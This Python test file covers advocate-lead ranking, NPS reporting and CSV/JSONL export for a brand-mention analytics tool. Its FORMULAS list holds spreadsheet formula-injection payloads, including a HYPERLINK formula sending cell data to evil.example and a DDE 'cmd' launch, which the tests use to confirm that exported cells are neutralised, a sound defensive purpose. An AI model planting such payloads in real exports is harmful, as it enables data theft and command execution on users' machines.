"""Advocate leads and NPS reports over a store seeded with the demo site's mentions,
enriched as the crawl enriches them, by the real sentiment model and persona classifier."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from api.advocates import LEAD_COLUMNS, find_leads, nps_report
from api.app import create_app
from api.cli import main
from api.export import neutralise_cell
from api.settings import Settings
from crawlers.extract.feed import extract_entries
from crawlers.extract.schemaorg import extract_reviews
from crawlers.pipelines import BrandAspects, enrich_batch, enrich_stored
from index.record import Author, Mention, Rating, Sentiment
from index.sqlite import SqliteStore
from index.watchlist import Brand
from sentiment.enricher import Enricher, load_enricher
from sentiment.nps import nps_from_rating
from sentiment.persona import APPROACHES

DEMO = Path(__file__).resolve().parents[2] / "api" / "demo_site"
SITE = "http://127.0.0.1:8765/"
BRANDS = (Brand(name="Acme", terms=("Acme", "艾克美")), Brand(name="Zephyr", terms=("Zephyr",)))


def _demo_mentions(enricher: Enricher) -> list[Mention]:
    found = []
    for path in sorted((DEMO / "products").glob("*.html")):
        page = path.relative_to(DEMO).as_posix()
        brand = "Zephyr" if "zephyr" in page else "Acme"
        found += extract_reviews(path.read_bytes(), SITE + page, brand=brand)
    for feed in ("news/feed.xml", "news/atom.xml"):
        found += extract_entries((DEMO / feed).read_bytes(), SITE + feed, BRANDS)
    return enrich_batch(found, enricher, BrandAspects({}), lambda _: False)


@pytest.fixture(scope="module")
def enricher() -> Enricher:
    return load_enricher()


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory: pytest.TempPathFactory, enricher: Enricher) -> Path:
    path = tmp_path_factory.mktemp("demo") / "demo.db"
    with SqliteStore(path) as store:
        store.upsert(_demo_mentions(enricher))
    return path


def _cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def test_maya_chen_is_the_top_acme_advocate_with_her_evidence(demo_db: Path) -> None:
    with SqliteStore(demo_db) as store:
        leads = find_leads(store, "Acme", min_score=0.5)
    top = leads[0]
    assert top.author == "Maya Chen"
    assert top.mentions == 2  # phone and earbuds pages: one author, not two
    assert top.persona == "validator"  # rated, detailed reviews that vouch for the products
    assert top.approach == APPROACHES["validator"]
    assert top.nps_class == "promoter"
    assert top.profile_url and top.profile_url.startswith(SITE)
    assert set(top.evidence) == {SITE + "products/acme-phone-x.html",
                                 SITE + "products/acme-buds-pro.html"}
    assert any("I recommend" in s for s in top.signals)  # her best mention's signals
    assert any(s.startswith("persona validator") for s in top.signals)
    assert top.last_seen == datetime(2026, 10, 8, tzinfo=UTC)
    authors = {lead.author for lead in leads}
    # 刘洋 writes "不推荐"; Tom Becker and the other 1-2 star reviewers are no advocates;
    # the brand's own newsroom is never its advocate.
    assert not authors & {"刘洋", "Tom Becker", "Daniel Okafor", "Acme Newsroom"}
    assert all(lead.score >= 0.5 and lead.persona for lead in leads)
    assert [lead.score for lead in leads] == sorted((lead.score for lead in leads), reverse=True)


def test_export_advocates_csv_from_the_cli(demo_db: Path) -> None:
    code, out, err = _cli("export", "advocates", "--brand", "Acme", "--db", str(demo_db))
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert tuple(rows[0]) == LEAD_COLUMNS
    first = dict(zip(LEAD_COLUMNS, rows[1], strict=True))
    assert first["author"] == "Maya Chen" and first["persona"] == "validator"
    assert first["mentions"] == "2" and first["nps_class"] == "promoter"
    assert len(first["evidence"].split(" | ")) == 2
    assert err.strip() == f"{len(rows) - 1} advocates of Acme"


def test_export_advocates_jsonl_and_an_unknown_brand(demo_db: Path) -> None:
    code, out, _ = _cli("export", "advocates", "--brand", "Zephyr", "--format", "jsonl",
                        "--db", str(demo_db), "--min-score", "0")
    assert code == 0
    leads = [json.loads(line) for line in out.splitlines()]
    # and when each engagement level was reached, the last contact to say how it went, and
    # the mention a draft answers
    assert set(leads[0]) == {*LEAD_COLUMNS, "engagement_history", "last_contact_id",
                             "best_mention_id"}
    assert "Karen W." in {lead["author"] for lead in leads}
    code, out, err = _cli("export", "advocates", "--brand", "Nobody", "--format", "jsonl",
                          "--db", str(demo_db))
    assert (code, out, err.strip()) == (0, "", "0 advocates of Nobody")


def test_bad_export_options_are_usage_errors(tmp_path: Path) -> None:
    code, _, err = _cli("export", "advocates", "--brand", "Acme", "--format", "xlsx")
    assert code == 2 and "xlsx" in err
    code, _, err = _cli("export", "advocates", "--db", str(tmp_path / "x.db"))
    assert code == 2 and "--brand" in err


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tinjected", "\rinjected"]


@pytest.mark.parametrize("value", FORMULAS)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value: str) -> None:
    assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("Maya = fan") == "Maya = fan"


def _fan(n: int, name: str, text: str, **kw: object) -> Mention:
    return Mention.create(
        source="schemaorg", native_id=f"f{n}", kind="review", url=f"https://shop.example/r/{n}",
        text=text, author=Author(name, handle=kw.pop("handle", None)),  # type: ignore[arg-type]
        published_at=datetime(2026, 10, n, tzinfo=UTC), brand="Acme", lang="en",
        rating=Rating(5, 5, 1), nps_class=nps_from_rating(5, 5),
        sentiment=Sentiment("positive", 0.9, 0.9, "test"), **kw)


PRAISE = ("Three weeks with the Acme Phone X: the battery lasts two days and the camera is "
          "great. I recommend it to anyone, five stars.")


def test_formula_author_is_neutralised_in_the_csv_export(
    tmp_path: Path, enricher: Enricher,
) -> None:
    db = tmp_path / "evil.db"
    with SqliteStore(db) as store:
        store.upsert([_fan(1, FORMULAS[0], PRAISE), _fan(2, FORMULAS[0], PRAISE + " Again!")])
        enrich_stored(store, enricher, BrandAspects({}))
    code, out, _ = _cli("export", "advocates", "--brand", "Acme", "--db", str(db))
    assert code == 0
    [_, row] = list(csv.reader(io.StringIO(out)))
    assert row[0] == "'" + FORMULAS[0]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_replies_to_the_brand_account_count_half(tmp_path: Path, enricher: Enricher) -> None:
    brand_post = _fan(1, "Acme", "What do you think of the new Acme Phone X?", handle="@acme")
    db = tmp_path / "replies.db"
    with SqliteStore(db) as store:
        store.upsert([brand_post,
                      _fan(2, "Prompted Pat", PRAISE, parent_id=brand_post.id),
                      _fan(3, "Unprompted Uma", PRAISE)])
        assert enrich_stored(store, enricher, BrandAspects({})) == 2  # not the brand's own
        leads = {lead.author: lead for lead in find_leads(store, "Acme", min_score=0)}
    assert set(leads) == {"Prompted Pat", "Unprompted Uma"}  # not the brand itself
    assert any(s.startswith("prompted: 1") for s in leads["Prompted Pat"].signals)
    assert not any(s.startswith("prompted") for s in leads["Unprompted Uma"].signals)


def test_nps_report_per_brand_and_month_with_and_without_estimates(
    demo_db: Path, demo_expected: Callable[[str], list[list[str]]],
) -> None:
    expected: Counter[tuple[str, str, str]] = Counter()
    for page, _, rating, _, published, _, _ in demo_expected("| page | author |"):
        value, best = (float(x) for x in rating.split("/"))
        brand = "Zephyr" if "zephyr" in page else "Acme"
        expected[(brand, published[:7], nps_from_rating(value, best))] += 1
    with SqliteStore(demo_db) as store:
        rows = nps_report(store, period="month")
    assert [(r.brand, r.period) for r in rows] == [
        ("Acme", "2026-10"), ("Acme", "2026-11"), ("Zephyr", "2026-10"), ("Zephyr", "2026-11")]
    for row in rows:
        key = (row.brand, row.period)
        assert (row.rated.promoters, row.rated.passives, row.rated.detractors) == (
            expected[(*key, "promoter")], expected[(*key, "passive")],
            expected[(*key, "detractor")])
        assert row.all.total == row.rated.total + row.estimated  # feed articles are estimated
        assert row.rated.nps == round(
            100 * (row.rated.promoters - row.rated.detractors) / row.rated.total, 1)
    # The eight feed entries, the roundup naming both brands counted for each.
    assert sum(row.estimated for row in rows) == 9


@pytest.fixture()
def client(demo_db: Path) -> Iterator[TestClient]:
    app = create_app(Settings(db=demo_db, auth=False))
    with TestClient(app) as c:
        yield c


def test_http_routes_share_the_functions(client: TestClient) -> None:
    leads = client.get("/advocates", params={"brand": "Acme"}).json()
    assert leads[0]["author"] == "Maya Chen" and leads[0]["persona"] == "validator"
    response = client.get("/advocates/export", params={"brand": "Acme", "format": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert next(csv.reader(io.StringIO(response.text))) == list(LEAD_COLUMNS)
    report = client.get("/reports/nps", params={"brand": "Zephyr", "period": "all"}).json()
    assert [(r["brand"], r["period"], r["all"]["total"]) for r in report] == [
        ("Zephyr", "all", 18)]  # 14 reviews and 4 feed entries (the roundup names Acme too)
    assert client.get("/advocates", params={"brand": "Acme", "min_score": 2}).status_code == 422
